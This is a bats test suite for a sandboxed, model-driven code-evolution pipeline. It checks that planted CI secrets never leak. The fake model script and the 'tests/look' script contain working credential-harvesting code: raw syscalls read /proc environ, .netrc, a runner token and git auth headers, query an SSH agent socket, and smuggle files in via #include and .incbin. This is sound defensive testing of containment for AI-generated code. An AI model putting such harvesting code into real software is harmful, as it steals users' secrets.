#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# Secrets of a CI job (environment, .git/config, the runner's folder, an agent's socket, ~/.netrc) are planted; candidates
# and the repository's own test command look for them; not a byte of them may stand anywhere afterwards.

setup_file() {
    export HOUSE=$BATS_FILE_TMPDIR
    command -v python3 >/dev/null && command -v perl >/dev/null && command -v zstd >/dev/null || return 0
    "$BATS_TEST_DIRNAME/../../ci-templates/run-demo" --build "$ATOLL_BUILD" --into "$HOUSE/demo" --prepare --profiler recorded
    plant
    write_test
    write_model
    write_pipeline
}

teardown_file() {
    [ ! -f "$HOUSE/agent.pid" ] || kill "$(cat "$HOUSE/agent.pid")" || true
}

setup() {
    command -v python3 >/dev/null || skip "needs python3"
    command -v perl >/dev/null || skip "needs perl"
    command -v zstd >/dev/null || skip "needs zstd"
    cd "$HOUSE/demo/tagd"
}

secret() { # NAME: what was planted under that name
    sed -n "s/^\(.*-$1\)$/\1/p" "$HOUSE/vault/secrets"
}

# Everything secret stands in vault/, which is not searched, and is made anew for each run of the tests.
plant() {
    local name
    mkdir -p "$HOUSE/vault/home" "$HOUSE/vault/runner"
    for name in environment config runner agent netrc; do
        echo "$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')-$name" >>"$HOUSE/vault/secrets"
    done
    secret runner >"$HOUSE/vault/runner/token"
    echo "machine example.com password $(secret netrc)" >"$HOUSE/vault/home/.netrc"
    git -C "$HOUSE/demo/tagd" config http.extraheader "Authorization: $(secret config)"
    cat >"$HOUSE/vault/agent.py" <<'PY'
import socket, sys
listener = socket.socket(socket.AF_UNIX)
listener.bind(sys.argv[1])
listener.listen()
while True:
    caller = listener.accept()[0]
    try:
        caller.sendall(sys.argv[2].encode())
    except OSError:
        pass
    caller.close()
PY
    python3 "$HOUSE/vault/agent.py" "$HOUSE/vault/agent" "$(secret agent)" </dev/null >/dev/null 2>&1 3>&- &
    echo $! >"$HOUSE/agent.pid"
    for _ in $(seq 100); do
        [ ! -S "$HOUSE/vault/agent" ] || break
        sleep 0.1
    done
}

# The repository's own test looks everywhere, prints what it finds, leaves it in files, and then does its work.
write_test() {
    cat >"$HOUSE/demo/tagd/tests/look" <<SH
#!/bin/sh
look() {
    env
    cat "$HOUSE/vault/home/.netrc" "$HOUSE/vault/runner/token" "$HOUSE/demo/tagd/.git/config" ../tagd/.git/config ~/.netrc
    process=\$\$
    while [ "\${process:-0}" -gt 1 ]; do
        tr '\\0' '\\n' </proc/\$process/environ
        process=\$(sed 's/.*) . \([0-9]*\) .*/\1/' /proc/\$process/stat)
    done
    perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0) && connect(S, sockaddr_un("$HOUSE/vault/agent")) && print <S>'
}
look >found 2>&1
cat found
cp found src/found.txt
cp found /tmp/atoll-found 2>/dev/null
exit 0
SH
    chmod +x "$HOUSE/demo/tagd/tests/look"
    # What the file uses already is not refused for its spelling alone: candidates that use it are built and run.
    cat >>"$HOUSE/demo/tagd/src/fibonacci.c" <<'C'

long fibonacci_process(void);

long
fibonacci_process(void)
{
    extern long syscall(long, ...);
    __asm__ volatile("");
    return syscall(39);
}
C
    (cd "$HOUSE/demo/tagd" && git add tests/look src/fibonacci.c && git commit -q -m "Look around" && git push -q origin main)
}

# Replies, in turn: a file read by the preprocessor, one by the assembler, and code that reads all that it can name.
write_model() {
    cat >"$HOUSE/steal.c" <<C
uint64_t
fibonacci(unsigned n)
{
    extern long syscall(long, ...);
    const char *const paths[] = {"/proc/self/environ", "$HOUSE/vault/home/.netrc", "$HOUSE/vault/runner/token",
                                        "$HOUSE/demo/tagd/.git/config"};
    struct {
        unsigned short family;
        char path[108];
    } agent = {1, "$HOUSE/vault/agent"};
    char text[4096];
    uint64_t a = 0, b = 1, stolen = 0;
    for (unsigned i = 0; i < 5; i++) {
        long fd = i < 4 ? syscall(2, paths[i], 0, 0) : syscall(41, 1, 1, 0);
        if (i == 4 && fd >= 0)
            syscall(42, fd, &agent, sizeof(agent));
        long got = fd >= 0 ? syscall(0, fd, text, sizeof(text)) : 0;
        for (int to = 1; got > 0 && to < 16; to++)
            syscall(1, to, text, got);
        for (long at = 0; at + 8 <= got; at++)
            __builtin_memcpy(&stolen, text + at, 8);
    }
    for (; n > 0; n--) {
        uint64_t sum = a + b;
        a = b;
        b = sum;
    }
    return STOLEN;
}
C
    sed -i "s/STOLEN/stolen ? stolen : a/" "$HOUSE/steal.c"
    cat >"$HOUSE/model" <<SH
#!/bin/sh
cat >/dev/null
count=\$(cat "$HOUSE/count" 2>/dev/null || echo 0)
echo \$((count + 1)) >"$HOUSE/count"
printf 'Here it is:\n\n\`\`\`c\n'
[ -z "\$TOLD" ] || count=3
case \$((count % 4)) in
0) cat "$HOUSE/steal.c" ;;
1) printf 'uint64_t\nfibonacci(unsigned n)\n{\n#include "%s"\n    return n;\n}\n' "$HOUSE/vault/runner/token" ;;
2) printf 'uint64_t\nfibonacci(unsigned n)\n{\n    __asm__ volatile(".pushsection .rodata\\\\n.incbin \\\\"%s\\\\"\\\\n.popsection");\n    return n;\n}\n' "$HOUSE/vault/home/.netrc" ;;
3) printf '%s\n' "uint64_t fibonacci(unsigned n) { /* \${TOLD:-nothing} */ return n; }" ;;
esac
printf '\`\`\`\n'
SH
    chmod +x "$HOUSE/model"
}

write_pipeline() { # the first two steps alone, and all four
    cat >"$HOUSE/demo/tagd/pipeline.yml" <<YML
version: 1
name: nosy
sandbox: {require: fence}
steps:
  - id: benchmark
    uses: benchmark-generate
    with: {file: src/fibonacci.c, function: fibonacci, captured: .atoll/captured/fibonacci.jsonl}
  - id: evolve
    uses: island-evolve
    with:
      benchmark: "\${{ steps.benchmark.outputs.benchmark }}"
      evaluations: 16
      models: [{provider: command, command: "$HOUSE/model", weight: 20}]
YML
    cp "$HOUSE/demo/tagd/pipeline.yml" "$HOUSE/demo/tagd/short.yml"
    cat >>"$HOUSE/demo/tagd/pipeline.yml" <<YML
  - id: prove
    uses: correctness-test
    with: {winner: "\${{ steps.evolve.outputs.winner }}", test: ./tests/look && make test, random: 50}
  - id: publish
    uses: open-pull-request
    with: {evidence: "\${{ steps.prove.outputs.evidence }}", test: ./tests/look && make test}
YML
}

# Runs the pipeline as a job with secrets does, from a state of its own, and exports the state.
job() { # NAME PIPELINE [WRAPPER...]
    rm -rf .atoll/state "$HOUSE/count" "$HOUSE/out-$1"
    mkdir "$HOUSE/out-$1"
    env HOME="$HOUSE/vault/home" DEPLOY_PHRASE="$(secret environment)" RUNNER_TEMP="$HOUSE/vault/runner" \
        SSH_AUTH_SOCK="$HOUSE/vault/agent" TOLD="${TOLD:-}" "${@:3}" "$ATOLL_BUILD/atoll" run "$2" --mode deterministic \
        --seed 1 >"$HOUSE/out-$1/stdout" 2>"$HOUSE/out-$1/stderr"
    "$ATOLL_BUILD/atoll" export "$HOUSE/out-$1/bundle" >>"$HOUSE/out-$1/stdout"
    "$ATOLL_BUILD/atoll" history --json >"$HOUSE/out-$1/history"
    "$ATOLL_BUILD/atoll" explain --json >"$HOUSE/out-$1/explain" 2>&1 || true
}

# All that a run left: printed words, state, bundle, repository and origin with every object, what stands in /tmp; not
# the places where the secrets belong.
search() { # PATH...
    cp -R .git "$BATS_TEST_TMPDIR/git"
    sed -i '/extraheader/d' "$BATS_TEST_TMPDIR/git/config"
    mv .git "$HOUSE/vault/git"
    run python3 "$BATS_TEST_DIRNAME/find_secrets.py" "$HOUSE/vault/secrets" "$@" "$BATS_TEST_TMPDIR/git"
    mv "$HOUSE/vault/git" .git
    rm -rf "$BATS_TEST_TMPDIR/git"
}

# Of the candidates one was run, one was built, and one was refused for how it is written; so they did look.
looked_for() {
    command -v sqlite3 >/dev/null || return 0
    candidates() { sqlite3 .atoll/state/state.db "select count(*) from candidate where mutator like 'model%' and $1"; }
    [ "$(candidates "stage not in ('parse', 'compile')")" -ge 1 ]
    [ "$(candidates "stage = 'compile' and detail like '%.netrc%'")" -ge 1 ]
    [ "$(candidates "stage = 'parse' and detail like '%#include%'")" -ge 1 ]
}

@test "what is not contained finds every secret, and the search finds what it found" {
    mkdir -p "$BATS_TEST_TMPDIR/open/tests" "$BATS_TEST_TMPDIR/open/src"
    cp tests/look "$BATS_TEST_TMPDIR/open/tests"
    (cd "$BATS_TEST_TMPDIR/open" && env HOME="$HOUSE/vault/home" DEPLOY_PHRASE="$(secret environment)" ./tests/look >/dev/null)
    search "$BATS_TEST_TMPDIR/open"
    [ "$status" -eq 1 ]
    for name in environment config runner agent netrc; do
        [[ $output == *"$(secret "$name") as "* ]]
    done
    rm -rf "$BATS_TEST_TMPDIR/open" /tmp/atoll-found
}

@test "a secret that a model tells is found in the state, in the bundle and in what is packed there" {
    TOLD=$(secret environment) job told short.yml
    search .atoll/state
    [[ $output == *"$(secret environment) as "* ]]
    search "$HOUSE/out-told/bundle"
    [[ $output == *"$(secret environment) as "* ]]
}

@test "candidates and tests find nothing, at the best level of this machine" {
    "$ATOLL_BUILD/atoll" sandbox check --level fence >/dev/null || skip "needs isolation level fence"
    job best pipeline.yml
    looked_for
    search . "$HOUSE/out-best" "$HOUSE/demo/origin.git" "$HOUSE/demo/origin.pull-requests" /tmp/atoll-found
    [ "$status" -eq 0 ]
    [[ $output == *" 0 findings" ]]
}

@test "they find nothing at fence, where no namespaces can be made" {
    "${CC:-cc}" -O1 -D_GNU_SOURCE -o "$BATS_TEST_TMPDIR/without" "$BATS_TEST_DIRNAME/no_namespaces.c"
    "$BATS_TEST_TMPDIR/without" all "$ATOLL_BUILD/atoll" sandbox check --level fence >/dev/null || skip "needs isolation level fence"
    job fence pipeline.yml "$BATS_TEST_TMPDIR/without" all
    looked_for
    search . "$HOUSE/out-fence" "$HOUSE/demo/origin.git" "$HOUSE/demo/origin.pull-requests" /tmp/atoll-found
    [ "$status" -eq 0 ]
    [[ $output == *" 0 findings" ]]
}
